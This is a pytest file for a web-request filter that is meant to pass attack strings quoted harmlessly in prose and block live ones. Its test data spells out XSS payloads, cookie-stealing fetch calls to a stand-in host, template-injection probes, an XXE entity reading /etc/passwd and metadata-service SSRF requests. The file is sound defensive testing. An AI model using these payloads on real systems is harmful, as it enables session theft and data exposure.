"""Attacks that a sentence shows, quoted and harmless even if they ran, pass; all others do not."""

from __future__ import annotations

import json

import pytest
from web_requests import stops


def stops_text(text: str) -> bool:
    headers = {"content-type": "application/json"}
    return stops(headers=headers, body=json.dumps({"comment": text}))


@pytest.mark.parametrize(
    "text",
    [
        "Type `<img src=x onerror=alert(1)>` into the preview and an alert shows.",
        "The search is open: `?q=<svg onload=alert(1)>` shows a box in every browser.",
        "Somebody could send `<script>alert(document.domain)</script>` here, please escape it.",
        "Create a customer named {code}<img src=x onerror=alert(document.domain)>{code} and wait.",
        "Why does `{{7*7}}` print 49 in every template of ours?",
        "Test entities with `<!ENTITY x SYSTEM 'file:///a'>` as the guide says.",
        'try this one\n```\n<script type="module" src="/main.js"></script>\n```\nin the head',
        'Our page <script type="application/ld+json">{"@type":"Event","name":"Fair"}</script>',
    ],
)
def test_a_shown_attack_passes(text: str) -> None:
    """It stands in quotes of its own within a sentence."""
    assert not stops_text(text)


@pytest.mark.parametrize(
    "text",
    [
        "Type <img src=x onerror=alert(1)> into the preview and an alert shows.",
        "`<img src=x onerror=alert(1)>`",
        "Type `<img src=x onerror=fetch('//e.example/'+document.cookie)>` into the preview here.",
        "Type `<script src=//e.example/a.js></script>` into the preview and wait for it.",
        "Type `<script>alert(1)` fetch('//e.example/'+document.cookie)</script> here and wait.",
        "Type `<script>` fetch('//e.example/'+document.cookie) //</script> here and wait.",
        "Type `<img src=x onerror=alert(1)>` here and <img src=x onerror=eval(name)> there.",
        "Why does `{{config.items()}}` print all of this in every template of ours?",
        "Why does `{{7*7}}` print 49 and {{ ''.__class__ }} print more of ours?",
        'try this one\n```\n<script src="//e.example/main.js"></script>\n```\nin the head',
        "The rule <script>fetch('//e.example/'+document.cookie)</script> stops our requests",
        "The rule <script onload=alert(1) src=//e.example> stops too many of our requests",
        'Our page <script type="application/ld+json">{}</script><script>fetch(name)</script>',
        'Our page <script type="text/javascript">{"a":fetch(name)}</script> is here',
    ],
)
def test_what_runs_or_stands_alone_is_found(text: str) -> None:
    """Nothing that does more than show a box, and nothing beside the quotes, is excused."""
    assert stops_text(text)


def test_an_entity_at_the_start_is_a_document() -> None:
    """A reader of XML takes a text that begins with markup, whatever is quoted in it."""
    body = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>Say `&x;` to us all</a>"
    assert stops(headers={"content-type": "text/xml"}, body=body)


def test_an_address_in_shown_code_is_not_loaded() -> None:
    """A page shows it; the same address as a link or a value is found."""
    shown = "<p>Never let a worker read this one:</p><pre>curl http://169.254.169.254/latest/</pre>"
    linked = shown + '<iframe src="http://169.254.169.254/latest/"></iframe>'
    headers = {"content-type": "application/json"}
    assert (False, True, True) == (
        stops(headers=headers, body=json.dumps({"html": shown})),
        stops(headers=headers, body=json.dumps({"html": linked})),
        stops(headers=headers, body=json.dumps({"html": "http://169.254.169.254/latest/"})),
    )


def test_an_expression_about_script_elements() -> None:
    """`<script|` begins an element that no browser knows; `<script ` begins a script."""
    headers = {"content-type": "application/json"}
    assert (False, True) == (
        stops(headers=headers, body=json.dumps({"rule": r"(?i)(union|<script|<\/?script\b)"})),
        stops(headers=headers, body=json.dumps({"rule": r"(?i)(union|<script src=//e.example>)"})),
    )
